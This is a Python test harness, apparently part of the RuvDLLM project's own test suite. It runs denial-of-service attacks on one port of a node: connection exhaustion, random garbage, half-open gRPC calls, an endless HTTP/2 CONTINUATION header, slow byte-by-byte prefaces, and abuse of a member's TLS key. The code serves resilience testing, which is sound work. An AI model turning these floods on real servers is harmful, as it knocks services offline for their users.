#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The RuvDLLM Authors
# SPDX-License-Identifier: Apache-2.0
"""Attacks of outsiders, and of a member's TLS key, on one port of a node; see hostile.py.

Most attackers are strangers, whom TLS refuses; those called "member" have the TLS key of a member, but
not its node key. Prints `ready`, attacks until SIGTERM, then prints one line of JSON.
"""

import argparse
import json
import os
import signal
import socket
import ssl
import subprocess
import tempfile
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header without the table (RFC 7541, section 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def open_call(path):
    """The bytes that begin a gRPC call and leave it open."""
    headers = (literal(b":method", b"POST") + literal(b":scheme", b"https") +
               literal(b":path", path) + literal(b":authority", b"ruvd") +
               literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))
    return PREFACE + frame(4, 0, 0, b"") + frame(1, 4, 1, headers)


LINK = open_call(b"/ruvd.federation.v1.FederationService/Link")
JOIN = open_call(b"/ruvd.admission.v1.AdmissionService/Join")
# A message of a call: its length, and bytes that are no frame of a link
GARBAGE = frame(0, 0, 1, b"\x00" + (4096).to_bytes(4, "big") + b"\xff" * 4096)
ENDLESS = (PREFACE + frame(4, 0, 0, b"") +
           frame(1, 0, 1, b"\x00\x01x\x7f\x81\xff\xff\xff\x03") + frame(9, 0, 1, b"a") * 400_000)


class Attack:
    """What some threads do, again and again, until the attack ends.

    `port` is the one of the node that they attack: api or federation."""

    def __init__(self, name, port, act, threads=8, pause=0.05):
        self.name, self.port, self.act, self.threads, self.pause = name, port, act, threads, pause
        self.over = threading.Event()
        self.tries = 0

    def run(self, target):
        held = []
        while not self.over.is_set():
            try:
                self.act(target, held)
            except OSError:
                pass
            self.tries += 1
            self.over.wait(self.pause)
        for one in held:
            one.close()


SOURCE = []  # the address that the attackers have, where it is not that of their host


def plain(target):
    return socket.create_connection(target, timeout=5,
                                    source_address=(SOURCE[0], 0) if SOURCE else None)


def tls_context(certificate, key=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.load_cert_chain(certificate, key)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def stranger_context():
    """With a certificate of the attackers' own making, which names no member."""
    with tempfile.TemporaryDirectory() as folder:
        key, certificate = f"{folder}/key.pem", f"{folder}/cert.pem"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:prime256v1", "-nodes", "-subj", "/CN=ruvd", "-keyout",
                        key, "-out", certificate], check=True, capture_output=True)
        return tls_context(certificate, key)


CONTEXTS = {}  # of strangers and of the member, each made once


def tls(target):
    return CONTEXTS["stranger"].wrap_socket(plain(target))


def member_tls(target):
    return CONTEXTS["member"].wrap_socket(plain(target))


def hold(make):
    """Opens connections and keeps them."""
    def act(target, held):
        held.append(make(target))
        if len(held) > 250:
            held.pop(0).close()
    return act


def send(make, data):
    """Opens a connection, sends, and waits until the node ends it."""
    def act(target, _):
        with make(target) as one:
            one.settimeout(2)
            one.sendall(data)
            while one.recv(4096):
                pass
    return act


def churn(make, data):
    """Begins a call over a connection of its own, and leaves it for another soon."""
    def act(target, held):
        one = make(target)
        one.sendall(data)
        held.append(one)
        if len(held) > 20:
            held.pop(0).close()
    return act


def drip(target, _):
    """Sends the beginning of a connection byte by byte."""
    with tls(target) as one:
        for byte in PREFACE * 4:
            one.sendall(bytes([byte]))
            time.sleep(0.2)


ATTACKS = [
    Attack("idle api", "api", hold(plain), pause=0.02),
    Attack("idle peers", "federation", hold(plain), pause=0.02),
    Attack("idle tls", "federation", hold(tls)),
    Attack("garbage", "federation", send(plain, os.urandom(1 << 16))),
    Attack("half-open links", "federation", churn(tls, LINK)),
    Attack("silent joins", "federation", churn(tls, JOIN)),
    Attack("endless header", "federation", send(tls, ENDLESS)),
    Attack("api: header", "api", send(plain, ENDLESS)),
    Attack("byte by byte", "federation", drip),
    Attack("member: half-open", "federation", churn(member_tls, LINK)),
    Attack("member: joins", "federation", churn(member_tls, JOIN)),
    Attack("member: header", "federation", send(member_tls, ENDLESS)),
    Attack("member: no frames", "federation", churn(member_tls, LINK + GARBAGE)),
]


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--attack", required=True, choices=[one.name for one in ATTACKS])
    parser.add_argument("--target", required=True, help="HOST:PORT")
    parser.add_argument("--source", help="address of the attackers (default: that of the host)")
    parser.add_argument("--member", help="PEM file with the TLS key of a member")
    flags = parser.parse_args()
    if flags.source:
        SOURCE.append(flags.source)
    CONTEXTS["stranger"] = stranger_context()
    if flags.member:
        CONTEXTS["member"] = tls_context(flags.member)
    attack = next(one for one in ATTACKS if one.name == flags.attack)
    signal.signal(signal.SIGTERM, lambda *_: attack.over.set())
    host, port = flags.target.rsplit(":", 1)
    threads = [threading.Thread(target=attack.run, args=((host, int(port)),), daemon=True)
               for _ in range(attack.threads)]
    for one in threads:
        one.start()
    print("ready", flush=True)
    while not attack.over.wait(1):
        pass
    for one in threads:
        one.join(timeout=10)
    print(json.dumps({"tries": attack.tries}))


if __name__ == "__main__":
    main()
